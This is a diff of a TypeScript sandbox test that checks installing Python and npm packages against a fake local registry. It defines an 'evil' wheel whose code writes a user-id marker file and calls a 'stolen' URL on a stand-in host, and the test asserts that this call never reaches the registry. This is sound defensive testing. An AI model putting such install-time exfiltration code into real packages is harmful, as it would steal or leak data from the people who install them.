@@ -3,19 +3,15 @@ import { assert, layer } from "@effect/vitest"
 import * as Effect from "effect/Effect"
 import * as Layer from "effect/Layer"
 import { createHash } from "node:crypto"
-import { readFileSync, rmSync, writeFileSync } from "node:fs"
-import * as https from "node:https"
+import { rmSync } from "node:fs"
 import { join } from "node:path"
-import { Dialler } from "../../src/egress/Dial.ts"
-import { configured, Finder } from "../../src/egress/Registries.ts"
-import { Resolver } from "../../src/egress/Resolver.ts"
 import { Host } from "../../src/Host.ts"
 import { Image } from "../../src/Image.ts"
 import type * as Packages from "../../src/Packages.ts"
 import { Sandbox } from "../../src/Sandbox.ts"
 import { Template } from "../../src/Template.ts"
 import { tarball, wheel } from "../support/archives.ts"
-import { certificates, listening } from "../support/servers.ts"
+import { startRegistry } from "../support/registry.ts"
 
 const live = Sandbox.layerTemplate.pipe(
   Layer.provideMerge(Template.layer),
@@ -26,8 +22,8 @@ const live = Sandbox.layerTemplate.pipe(
 const token = "token-of-this-host"
 const name = "registry.example"
 
-/** What a package's code does wherever it runs: it leaves a mark with its user, and uses any network. */
-const python = `import os, urllib.request; open('/var/tmp/ran-' + str(os.getuid()), 'a').close(); urllib.request.urlopen(urllib.request.Request(os.environ['PIP_INDEX_URL'].replace('simple', 'stolen'), method='POST'), timeout=5)`
+/** What a package's code does wherever it runs: it leaves a mark with its user, and asks the registry for something, if it can. */
+const python = `import os, urllib.request; open('/var/tmp/ran-' + str(os.getuid()), 'a').close(); urllib.request.urlopen('https://${name}/pip/stolen', timeout=5)`
 const script = `#!/bin/sh\nid -u >> /var/tmp/ran-by-path\n`
 
 const evil = wheel("evil", "1.0", {
@@ -55,45 +51,26 @@ const npm = tarball({
 /** A registry of Python and npm packages that records each request and its credentials. */
 const registry = Effect.gen(function* () {
   const asked: Array<{ readonly line: string; readonly authorization: string | undefined }> = []
-  const { authority, byName, directory } = yield* certificates([name])
   const dist = { tarball: `https://${name}/npm/thing.tgz`, shasum: createHash("sha1").update(npm).digest("hex") }
   const page = { name: thing.name, "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": { ...thing, dist } } }
   const sha256 = createHash("sha256").update(evil).digest("hex")
-  const port = yield* listening(
-    https.createServer(byName.get(name) ?? {}, ({ headers, method, url = "" }, response) => {
-      asked.push({ line: `${method} ${url}`, authorization: headers.authorization })
-      if (url.endsWith(".whl")) return void response.end(evil)
-      if (url.endsWith(".tgz")) return void response.end(npm)
-      if (url.startsWith("/npm/")) {
-        response.writeHead(200, { "content-type": "application/json" })
-        return void response.end(JSON.stringify(page))
-      }
-      if (url !== "/pip/simple/evil/") return void response.writeHead(404).end()
-      response.writeHead(200, { "content-type": "text/html" })
-      response.end(`<a href="/pip/files/evil-1.0-py3-none-any.whl#sha256=${sha256}">evil-1.0-py3-none-any.whl</a>`)
-    })
-  )
-  const { NODE_EXTRA_CA_CERTS = "" } = process.env
-  const trusted = join(directory, "trusted.pem")
-  const before = NODE_EXTRA_CA_CERTS === "" ? "" : readFileSync(NODE_EXTRA_CA_CERTS, "utf8")
-  writeFileSync(trusted, `${before}\n${readFileSync(authority, "utf8")}`)
-  process.env["NODE_EXTRA_CA_CERTS"] = trusted
-  yield* Effect.addFinalizer(() => Effect.sync(() => Object.assign(process.env, { NODE_EXTRA_CA_CERTS })))
-  const dial = yield* Dialler
-  const resolve = yield* Resolver
-  const address = "192.0.2.91"
-  const told = {
-    ...process.env,
+  const settings = {
     PIP_INDEX_URL: `https://user:${token}@${name}/pip/simple`,
     "npm_config_@local:registry": `https://${name}/npm/`,
     [`npm_config_//${name}/npm/:_authToken`]: token
   }
-  const around = <A, E, R>(effect: Effect.Effect<A, E, R>) =>
-    effect.pipe(
-      Effect.provideService(Finder, (ecosystems, mirror) => configured(ecosystems, told, undefined, mirror)),
-      Effect.provideService(Resolver, (host) => (host === name ? Effect.succeed([address]) : resolve(host))),
-      Effect.provideService(Dialler, (to, at) => (to === address ? dial("127.0.0.1", port) : dial(to, at)))
-    )
+  const around = yield* startRegistry(name, settings, ({ headers, method, url = "" }, response) => {
+    asked.push({ line: `${method} ${url}`, authorization: headers.authorization })
+    if (url.endsWith(".whl")) return void response.end(evil)
+    if (url.endsWith(".tgz")) return void response.end(npm)
+    if (url.startsWith("/npm/")) {
+      response.writeHead(200, { "content-type": "application/json" })
+      return void response.end(JSON.stringify(page))
+    }
+    if (url !== "/pip/simple/evil/") return void response.writeHead(404).end()
+    response.writeHead(200, { "content-type": "text/html" })
+    response.end(`<a href="/pip/files/evil-1.0-py3-none-any.whl#sha256=${sha256}">evil-1.0-py3-none-any.whl</a>`)
+  })
   return { asked, around }
 })
 
@@ -118,7 +95,7 @@ layer(live, { excludeTestServices: true, timeout: "240 seconds" })("Packages", (
           Effect.sync(() => rmSync(join(cacheDirectory, "templates", entry.key), { recursive: true, force: true }))
         )
         assert.isAbove(asked.length, 3)
-        for (const { line } of asked) assert.match(line, /^(GET|HEAD) \/(pip\/|npm\/|@local)/)
+        for (const { line } of asked) assert.match(line, /^(GET|HEAD) \/(pip\/simple|pip\/files|npm)\//)
         assert.isTrue(
           asked.some(({ authorization }) => authorization === `Bearer ${token}`),
           "the registry is shown the credential"
